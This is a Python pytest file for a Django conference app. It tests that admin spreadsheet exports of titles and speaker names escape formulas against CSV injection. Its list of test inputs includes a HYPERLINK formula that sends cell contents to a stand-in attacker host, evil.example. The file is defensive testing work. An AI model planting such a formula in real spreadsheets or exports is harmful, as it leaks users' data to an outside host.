"""Titles and names come from speakers: the admin's spreadsheet exports must show them as text, never run them
as formulas (OWASP "CSV injection")."""

import csv
import io
import zipfile
from xml.etree import ElementTree

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from posters.models import Poster, PosterAuthor
from posters.resources import PosterResource
from schedule.models import Session, SessionSpeaker, Speaker
from schedule.resources import SessionResource, SpeakerResource

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
ORDINARY = ["Over-parameterization - a survey", "Losses fall by -3 dB at depth", "O'Neil"]
FORMATS = {"csv": "0", "xlsx": "1"}  # the admin's order: SpreadsheetAdmin.formats
SHEET_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
RESOURCES = {Session: SessionResource, Speaker: SpeakerResource, Poster: PosterResource}


@pytest.fixture
def programme(make_workshop, make_session, make_poster, make_speaker):
    """A session and a poster titled with each text, each with one speaker or author of that name."""
    workshop = make_workshop()
    for n, text in enumerate(FORMULAS + ORDINARY):
        person = make_speaker(name=text, slug=f"person-named-{n}")
        session = make_session(workshop=workshop, title=text, slug=f"titled-{n}")
        SessionSpeaker.objects.create(session=session, speaker=person, position=0)
        poster = make_poster(workshop=workshop, title=text, slug=f"titled-{n}")
        PosterAuthor.objects.create(poster=poster, speaker=person, position=0)
    return workshop


def admin_url(model, action):
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{action}")


def export(client, model, file_format):
    resource = RESOURCES[model]
    columns = {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_headers()}
    response = client.post(admin_url(model, "export"), {"format": FORMATS[file_format], "resource": "0", **columns})
    assert response.status_code == 200, response.content[:500]
    return response.content


def csv_rows(content):
    header, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [dict(zip(header, row)) for row in rows]


def xlsx_rows(content):
    sheet = load_workbook(io.BytesIO(content)).active
    header, *rows = sheet.iter_rows()
    return [{title.value: cell for title, cell in zip(header, row)} for row in rows]


def shown(cell):
    """What a spreadsheet shows in a cell: its text if it is a text cell."""
    if isinstance(cell, str):  # every CSV cell is text once a leading apostrophe keeps it from being a formula
        return cell
    assert cell.data_type == "s", f"{cell.coordinate} is a {cell.data_type!r} cell, not text: {cell.value!r}"
    return cell.value


def rows_by(model, file_format, content, key):
    rows = csv_rows(content) if file_format == "csv" else xlsx_rows(content)
    return {shown(row[key]): row for row in rows}


EXPORTED_TEXT = [(Session, "slug", "title"), (Session, "slug", "speakers"), (Poster, "slug", "title"),
                 (Poster, "slug", "authors"), (Speaker, "slug", "name")]


def slug_of(model, n):
    return f"person-named-{n}" if model is Speaker else f"titled-{n}"


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize(("model", "key", "column"), EXPORTED_TEXT)
def test_a_formula_in_a_title_or_name_is_exported_as_text_behind_an_apostrophe(
    admin_client, programme, model, key, column, file_format
):
    rows = rows_by(model, file_format, export(admin_client, model, file_format), key)
    for n, text in enumerate(FORMULAS):
        assert shown(rows[slug_of(model, n)][column]) == "'" + text


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize(("model", "key", "column"), EXPORTED_TEXT)
def test_ordinary_titles_and_names_are_exported_as_written(admin_client, programme, model, key, column, file_format):
    rows = rows_by(model, file_format, export(admin_client, model, file_format), key)
    for n, text in enumerate(ORDINARY, start=len(FORMULAS)):
        assert shown(rows[slug_of(model, n)][column]) == text


@pytest.mark.parametrize("model", RESOURCES)
def test_an_xlsx_export_holds_no_formula_and_writes_text_as_strings(admin_client, programme, model):
    with zipfile.ZipFile(io.BytesIO(export(admin_client, model, "xlsx"))) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    assert list(sheet.iter(f"{SHEET_NS}f")) == []
    cells = list(sheet.iter(f"{SHEET_NS}c"))
    assert {cell.get("t") for cell in cells} <= {"inlineStr", "s"}  # text, written inline or shared
    texts = [cell.findtext(f"{SHEET_NS}is/{SHEET_NS}t") for cell in cells]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in texts and "O'Neil" in texts


@pytest.mark.parametrize("file_format", FORMATS)
def test_an_exported_spreadsheet_imports_back_with_its_titles_unchanged(admin_client, programme, file_format):
    content = export(admin_client, Session, file_format)
    Session.objects.filter(workshop=programme).update(title="Renamed")
    upload = SimpleUploadedFile(f"programme.{file_format}", content)
    preview = admin_client.post(admin_url(Session, "import"),
                                {"import_file": upload, "format": FORMATS[file_format], "resource": "0"})
    confirm = preview.context["confirm_form"]
    assert confirm is not None, preview.content[:2000]
    done = admin_client.post(admin_url(Session, "process_import"), {name: confirm[name].value() for name in confirm.fields})
    assert done.status_code == 302
    titles = dict(Session.objects.filter(workshop=programme).values_list("slug", "title"))
    written = FORMULAS + ORDINARY
    if file_format == "csv":  # a CSV file is read with universal newlines: a carriage return comes back as "\n"
        written = [text.replace("\r", "\n") for text in written]
    assert [titles[f"titled-{n}"] for n in range(len(written))] == written
